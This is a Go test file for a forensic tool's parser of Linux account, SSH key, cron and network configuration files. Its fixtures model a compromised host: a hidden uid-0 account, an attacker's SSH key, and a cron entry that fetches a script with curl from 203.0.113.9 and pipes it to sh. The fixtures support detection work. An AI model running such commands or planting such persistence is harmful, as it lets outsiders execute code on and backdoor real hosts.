package linux

import (
	"context"
	"testing"
	"time"

	"github.com/kiseki-forensics/kiseki/internal/parsertest"
	"github.com/kiseki-forensics/kiseki/parsers"
	"github.com/kiseki-forensics/kiseki/timeline"
)

// configEvents parses data as the file rel of host web01, modified at mt.
func configEvents(t *testing.T, rel, data string, mt time.Time) []timeline.Event {
	t.Helper()
	p := parsertest.WriteFile(t, rel, data, mt)
	in, _ := parsertest.Input(p, 0, nil)
	in.Name, in.Host = "img#p1!/"+rel, "web01"
	if s := detectConfig(in.Name, []byte(data)); s < 90 {
		t.Errorf("%s: detect scored %d", rel, s)
	}
	var c parsertest.Collect
	if err := parseConfig(context.Background(), in, &c); err != nil {
		t.Fatal(err)
	}
	return c.Events
}

type cfgWant struct {
	msg, user, desc, tags string
	extra                 map[string]string
}

func checkConfig(t *testing.T, rel string, evs []timeline.Event, mt time.Time, want []cfgWant) {
	t.Helper()
	if len(evs) != len(want) {
		t.Fatalf("%s: %d events, want %d: %+v", rel, len(evs), len(want), evs)
	}
	for i, w := range want {
		ev := &evs[i]
		if ev.Message != w.msg || ev.User != w.user || ev.TimeDesc != w.desc || ev.Tags != w.tags || ev.Source != ConfigSource {
			t.Errorf("%s event %d: %q user %q desc %s tags %q; want %+v", rel, i, ev.Message, ev.User, ev.TimeDesc, ev.Tags, w)
		}
		if w.desc == timeline.TimeModified && ev.Time != mt.UnixNano() {
			t.Errorf("%s event %d: time %s, want the file's mtime", rel, i, ev.UTC())
		}
		for k, v := range w.extra {
			if g := parsertest.Extra(ev, k); g != v {
				t.Errorf("%s event %d: %s = %q, want %q", rel, i, k, g, v)
			}
		}
	}
}

func TestAccounts(t *testing.T) {
	mt := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	m := timeline.TimeModified
	rel := "etc/passwd"
	checkConfig(t, rel, configEvents(t, rel, "root:x:0:0:root:/root:/bin/bash\n# note\ntoor:x:0:0::/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n", mt), mt, []cfgWant{
		{"account root uid 0 gid 0 home /root shell /bin/bash", "root", m, TagFileMtime, map[string]string{"uid": "0"}},
		{"account toor uid 0 gid 0 home /root shell /bin/sh", "toor", m, "uid0," + TagFileMtime, nil},
		{"account www-data uid 33 gid 33 home /var/www shell /usr/sbin/nologin", "www-data", m, TagFileMtime, map[string]string{"home": "/var/www"}},
	})
	rel = "etc/shadow"
	evs := configEvents(t, rel, "root:$6$salt$hash:20454:0:99999:7:::\nbackup::19000:0:99999:7:::\ndaemon:*:::::::\n", mt)
	checkConfig(t, rel, evs, mt, []cfgWant{
		{"password of root last changed (sha512)", "root", TimePasswordChange, "", map[string]string{"password": "sha512"}},
		{"password of backup last changed (empty)", "backup", TimePasswordChange, "empty-password", nil},
		{"password of daemon (locked)", "daemon", m, TagFileMtime, nil},
	})
	// 20454 days after 1970-01-01
	if got := evs[0].UTC().Format("2006-01-02"); got != "2026-01-01" {
		t.Errorf("root's password change %s, want 2026-01-01", got)
	}
	for _, ev := range evs {
		for _, kv := range ev.Extra {
			if kv.Value == "$6$salt$hash" {
				t.Errorf("the hash was kept: %+v", ev)
			}
		}
	}
	rel = "etc/group"
	checkConfig(t, rel, configEvents(t, rel, "root:x:0:\nsudo:x:27:alice,mallory\n", mt), mt, []cfgWant{
		{"group root gid 0 members ", "", m, TagFileMtime, nil},
		{"group sudo gid 27 members alice,mallory", "", m, "admin-group," + TagFileMtime, map[string]string{"members": "alice,mallory"}},
	})
}

// TestAuthorizedKeys: fingerprints as ssh-keygen -l prints them (the key
// was made with ssh-keygen -t ed25519; its -lf output is the reference).
func TestAuthorizedKeys(t *testing.T) {
	mt := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	rel := "home/alice/.ssh/authorized_keys"
	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKfxNm50ZBeTFJLLHVN2MftHgVok6fsTuewFJjYGSVoN mallory@evil"
	fp := "SHA256:Lm/dCTxYTwXJOCoWQQ7mhAJQi2J+GfvZ1Qua9Z3sYME"
	checkConfig(t, rel, configEvents(t, rel, key+"\ncommand=\"/bin/echo hi there\",no-pty "+key+"\n", mt), mt, []cfgWant{
		{"authorized key for alice: ssh-ed25519 " + fp + " mallory@evil", "alice", timeline.TimeModified, TagFileMtime, map[string]string{"fingerprint": fp, "comment": "mallory@evil"}},
		{"authorized key for alice: ssh-ed25519 " + fp + " mallory@evil", "alice", timeline.TimeModified, TagFileMtime, map[string]string{"options": `command="/bin/echo hi there",no-pty`}},
	})
}

func TestCrontabs(t *testing.T) {
	mt := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	m := timeline.TimeModified
	rel := "var/spool/cron/crontabs/www-data"
	checkConfig(t, rel, configEvents(t, rel, "SHELL=/bin/sh\n*/5 * * * * curl -s http://203.0.113.9/x | sh\n@reboot /tmp/.x\n", mt), mt, []cfgWant{
		{"cron environment SHELL=/bin/sh", "", m, TagFileMtime, nil},
		{"cron */5 * * * * www-data: curl -s http://203.0.113.9/x | sh", "www-data", m, TagFileMtime, map[string]string{"command": "curl -s http://203.0.113.9/x | sh"}},
		{"cron @reboot www-data: /tmp/.x", "www-data", m, TagFileMtime, nil},
	})
	rel = "etc/cron.d/backup"
	checkConfig(t, rel, configEvents(t, rel, "17 3 * * mon root /usr/local/bin/backup.sh\n", mt), mt, []cfgWant{
		{"cron 17 3 * * mon root: /usr/local/bin/backup.sh", "root", m, TagFileMtime, map[string]string{"schedule": "17 3 * * mon"}},
	})
}

// TestHostIdentity: the host's own addresses from its network
// configuration and from /etc/hosts lines that name it.
func TestHostIdentity(t *testing.T) {
	mt := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	own := func(evs []timeline.Event) (out []string) {
		for _, ev := range evs {
			if len(ev.Message) > len(HostAddressPrefix) && ev.Message[:len(HostAddressPrefix)] == HostAddressPrefix {
				out = append(out, parsertest.Extra(&ev, "address"))
			}
		}
		return out
	}
	for rel, tc := range map[string]struct {
		data string
		want []string
	}{
		"etc/hostname":           {"web01\n", nil},
		"etc/hosts":              {"127.0.0.1 localhost\n127.0.1.1 web01.shop.example web01\n10.0.0.5 web01.shop.example web01 # own\n10.0.0.9 db01\n", []string{"10.0.0.5"}},
		"etc/network/interfaces": {"auto eth0\niface eth0 inet static\n  address 10.0.0.5/24\n  gateway 10.0.0.1\n", []string{"10.0.0.5"}},
		"etc/sysconfig/network-scripts/ifcfg-eth0":             {"DEVICE=eth0\nBOOTPROTO=none\nIPADDR=10.0.0.6\nPREFIX=24\n", []string{"10.0.0.6"}},
		"etc/netplan/50-cloud-init.yaml":                       {"network:\n  ethernets:\n    eth0:\n      addresses:\n        - 10.0.0.7/24\n        - 2001:db8::7/64\n      gateway4: 10.0.0.1\n", []string{"10.0.0.7", "2001:db8::7"}},
		"etc/NetworkManager/system-connections/a.nmconnection": {"[connection]\nid=a\n[ipv4]\naddress1=10.0.0.8/24,10.0.0.1\nmethod=manual\n", []string{"10.0.0.8"}},
	} {
		evs := configEvents(t, rel, tc.data, mt)
		if got := own(evs); len(got) != len(tc.want) || len(got) > 0 && got[0] != tc.want[0] || len(got) > 1 && got[1] != tc.want[1] {
			t.Errorf("%s: own addresses %v, want %v", rel, got, tc.want)
		}
		if parsed, n := parsertest.ParsedRatio(evs); parsed != n {
			t.Errorf("%s: %d of %d lines parsed", rel, parsed, n)
		}
	}
}

// TestConfigNames: configuration kinds are told by their path only; a log
// file is never one.
func TestConfigNames(t *testing.T) {
	for name, want := range map[string]int{"web01/etc/passwd": 92, "etc/passwd.bak": 0, "var/log/syslog": 0, "x.tar!etc/shadow": 92} {
		data := "root:x:0:0:root:/root:/bin/bash\n"
		if name == "x.tar!etc/shadow" {
			data = "root:*:20454:0:99999:7:::\n"
		}
		if got := detectConfig(name, []byte(data)); got != want {
			t.Errorf("%s: %d, want %d", name, got, want)
		}
	}
}

func FuzzConfig(f *testing.F) {
	f.Add("etc/passwd", []byte("root:x:0:0:root:/root:/bin/bash\n"))
	f.Add("etc/shadow", []byte("root:$6$x:20454:0:99999:7:::\n"))
	f.Add("home/a/.ssh/authorized_keys", []byte("from=\"1.2.3.4\" ssh-rsa AAAA x\n"))
	f.Add("etc/crontab", []byte("* * * * * root x\n"))
	f.Add("etc/netplan/a.yaml", []byte("addresses: [10.0.0.1/24]\n"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		in := &parsers.Input{Name: name, ZoneSource: "fuzz", Open: openBytes(data)}
		var c parsertest.Collect
		if err := parseConfig(context.Background(), in, &c); err != nil {
			t.Fatal(err)
		}
		detectConfig(name, data)
	})
}

func BenchmarkConfig(b *testing.B) {
	for _, rel := range []string{"etc/passwd", "home/a/.ssh/authorized_keys"} {
		b.Run(rel, func(b *testing.B) {
			line := "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
			if rel != "etc/passwd" {
				line = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKfxNm50ZBeTFJLLHVN2MftHgVok6fsTuewFJjYGSVoN mallory@evil\n"
			}
			benchNamed(b, ConfigName, rel, line, 5000)
		})
	}
}
